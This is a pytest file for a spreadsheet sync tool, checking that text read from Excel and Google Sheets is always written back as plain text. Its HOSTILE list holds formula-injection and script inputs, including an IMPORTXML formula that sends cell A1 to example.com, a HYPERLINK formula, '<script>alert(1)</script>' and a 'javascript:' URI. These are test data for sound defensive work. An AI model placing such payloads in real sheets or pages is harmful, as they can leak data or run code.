"""Text from a sheet is only ever text (promise 19): in no cell of ours a formula or a link of theirs."""

from __future__ import annotations

import re
import unicodedata
from datetime import date

import pytest

from sheets_sync.sample.staff_tabs import STAFF_TABS
from sheets_sync.views.tab import OutCell, Tab
from tests.contract.houses import Book, House, Made, Rows
from tests.contract.in_google import GoogleBook
from tests.contract.school import HEADERS, TODAY, TOMORROW, after_the_first_night, note, school
from tests.contract.seen import SeenTab, Value

OURS = ("Compliance", "Data Problems")
NOTICE = re.compile(r'IF\(TODAY\(\)>DATE\(2025,10,2\d\)\+1,"Not checked since Oct 2\d",""\)')

HOSTILE = {
    "a formula": "=1+1",
    "a formula that calls home": '=IMPORTXML("https://example.com/?"&A1,"//a")',
    "a link as a formula": '=HYPERLINK("https://example.com","Ana R.")',
    "plus": "+A1",
    "minus": "-x",
    "at": "@SUM(A1)",
    "quoted": "'quoted",
    "a quote inside": 'He said "no"',
    "a tag": "<b>bold</b>",
    "script": "<script>alert(1)</script>",
    "an address": "https://example.com/a?b=c",
    "an address of a cell": "#gid=0&range=A1",
    "javascript": "javascript:alert(1)",
    "leading noughts": "0012",
    "a date": "11/4/2025",
    "true": "TRUE",
    "an error": "#REF!",
    "control characters": "bell \x07 and \x1b[31m red",
    "what looks escaped": "_x0041_ and &#65; and %41",
    "lines": "two\nlines\r\nand a third",
    "a tab stop": "tab\tstop",
    "bidi marks": "\u202eright to left\u202c \u2066isolated\u2069",
    "no width": "zero\u200bwidth \ufeffmark",
    "emoji": "👩🏽‍🏫 and 🎈",
    "far east": "山田 太郎",
    "as long as cells get": "so it goes on " * 2_300,
}

LONG = ("minus", "quoted", "a tag", "an address of a cell", "leading noughts", "true", "emoji", "far east")
"""Alike to another for what reads and writes whole columns: in the long form alone."""

hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
hostile_in_columns = pytest.mark.parametrize(
    "text",
    [
        pytest.param(text, id=name, marks=[pytest.mark.slow] if name in LONG else [])
        for name, text in HOSTILE.items()
    ],
)


def with_it_in_every_column(text: str) -> dict[str, Rows]:
    """Return tabs with every column there is: rows as they should be, then for each column one in which this
    stands instead, then one in which it stands everywhere."""
    tabs: dict[str, Rows] = {}
    base = school()
    for tab in STAFF_TABS:
        headers = [column.header for column in tab.columns]
        typed = base.get(
            tab.name, [["Date", "Student", "Attendance"], [date(2025, 10, 7), "Ben T.", "absent"]]
        )
        names = [str(name) for name in typed[0]]
        rows: list[list[Value]] = [
            [dict(zip(names, row, strict=True)).get(header) for header in headers] for row in typed[1:]
        ]
        spoiled = [
            [text if at == column else value for at, value in enumerate(rows[0])]
            for column in range(len(headers))
        ]
        tabs[tab.name] = [headers, *rows, *spoiled, [text] * len(headers)]
    return tabs


def formulas(tab: SeenTab) -> list[str]:
    return [cell.formula for cell in tab.cells.values() if cell.formula]


def links(tab: SeenTab) -> set[str]:
    return {cell.link for cell in tab.cells.values() if cell.link}


def texts(tab: SeenTab) -> str:
    return "\n".join(str(cell.value) for cell in tab.cells.values())


def seen_of(text: str) -> str:
    """Return what can be seen of a text: in "What stands there" the rest is left out."""
    return "".join(one for one in text if not one.isspace() and unicodedata.category(one) not in ("Cc", "Cf"))


def only_our_structure(book: Book) -> None:
    """Our formula, the stale notice, once in each tab; links only to cells of the workbook."""
    for title in OURS:
        tab = book.see(title)
        (formula,) = formulas(tab)
        assert NOTICE.fullmatch(formula)
        known = "|".join(re.escape(one) for one in book.titles())
        assert all(re.fullmatch(rf"({known})![A-Z]+\d+", link) for link in links(tab)), links(tab)
    assert not links(book.see("Compliance"))
    if isinstance(book, GoogleBook):
        only_text_is_sent(book)


def only_text_is_sent(book: GoogleBook) -> None:
    for title in OURS:
        sheet = book.sheet(title)
        kinds = {
            kind
            for cell in sheet.cells.values()
            for kind in cell.get("userEnteredValue", {})
            if kind != "formulaValue" and cell["userEnteredValue"] != {"boolValue": False}  # the box
        }
        assert kinds <= {"stringValue", "numberValue"}
        for view in sheet.filter_views.values():
            assert not re.search(r"userEnteredValue': '\s*[=+]", str(view))


@hostile_in_columns
def test_in_whatever_column_it_stands_both_houses_show_it_alike_and_as_text(
    excel: House, google: House, text: str
) -> None:
    seen = []
    for house in (excel, google):
        book = house.make(with_it_in_every_column(text))
        told = book.sync(TODAY)
        only_our_structure(book)
        assert seen_of(text)[:30] in seen_of(texts(book.see("Data Problems")))
        before = book.kept()
        book.sync(TODAY)
        assert book.kept() == before, "what was written is what is read again"
        seen.append([told["lines"], told["problems"], [as_in_both(book.see(title)) for title in OURS]])
    assert seen[0] == seen[1]
    assert len(seen[0][0]) == len(STAFF_TABS[1].columns) + 6
    assert seen[0][1]


def as_in_both(tab: SeenTab) -> list[list[Value]]:
    return [[plain(cell) if isinstance(cell, str) else cell for cell in row] for row in tab.values()]


def plain(text: str) -> str:
    """Return a text without what each house may write in its own way: line ends, and what is no character."""
    lines = re.sub(r"\r\n|\r", "\n", text)
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", lines).strip()


@hostile
def test_as_a_note_of_staffs_it_stays_what_it_is(house: House, made: Made, text: str) -> None:
    book = made(after_the_first_night, house)
    header = book.see("Compliance").header(*HEADERS)
    book.insert_columns("Compliance", "Y")
    book.type("Compliance", f"Y{header}", text)
    note(book, "Ben T.", "Reading", text)
    book.type("Compliance", f"Y{header + 1}", text)
    book.insert_rows("Service Grid", 2)
    book.sync(TOMORROW)
    tab = book.see("Compliance")
    only_our_structure(book)
    found = [cell.value for cell in tab.cells.values() if isinstance(cell.value, str)]
    assert sum(plain(value) == plain(text) for value in found) >= 2


def tab_of(*text: str) -> Tab:
    header = (OutCell("With a note"), OutCell("Without"))
    rows = tuple((OutCell(one, note=one), OutCell(one)) for one in text)
    return Tab("Data Problems", "problems", (header, *rows), (10, 10), frozen=(1, 0))


NO_CHARACTERS = ("\ufffe and \uffff", "\ud800", "half \udfff a pair", "\ud83d x")
LENGTHS = {"excel": 32_767, "google": 50_000}


def test_any_text_in_any_cell_and_note_through_the_port(house: House) -> None:
    book = house.make(school())
    every = (*HOSTILE.values(), *NO_CHARACTERS, "🎈" * 100, " spaces ", "x" * 30_000)
    port = book.open()
    port.write([tab_of(*every)], port.read())
    tab = book.see("Data Problems")
    for row, text in enumerate(every, 2):
        wanted = plain(text.encode("utf-16", "surrogatepass").decode("utf-16", "replace"))
        for cell in (tab.cell(row, 1), tab.cell(row, 2)):
            assert isinstance(cell.value, str)
            assert plain(cell.value) == wanted
            assert (cell.formula, cell.link) == ("", "")
        assert plain(tab.cell(row, 1).note) == wanted
    read = next(sheet for sheet in book.open().read().sheets if sheet.mark == "problems")
    assert [row[0] for row in read.rows] == [row[0] for row in tab.values()]
    again = book.open()
    assert again.write([tab_of(*every)], again.read()) == 0


@pytest.mark.parametrize("letter", ["x", "é", "🎈"])
def test_what_is_longer_than_a_cell_is_cut_and_says_so(house: House, letter: str) -> None:
    book = house.make(school())
    port = book.open()
    port.write([tab_of(letter * 60_000)], port.read())
    cell = book.see("Data Problems").cell(2, 2)
    assert isinstance(cell.value, str)
    assert re.fullmatch(rf"{letter}+…", cell.value)
    units = len(cell.value.encode("utf-16-le")) // 2
    assert LENGTHS[house.name] - 1 <= units <= LENGTHS[house.name]
    again = book.open()
    assert again.write([tab_of(letter * 60_000)], again.read()) == 0
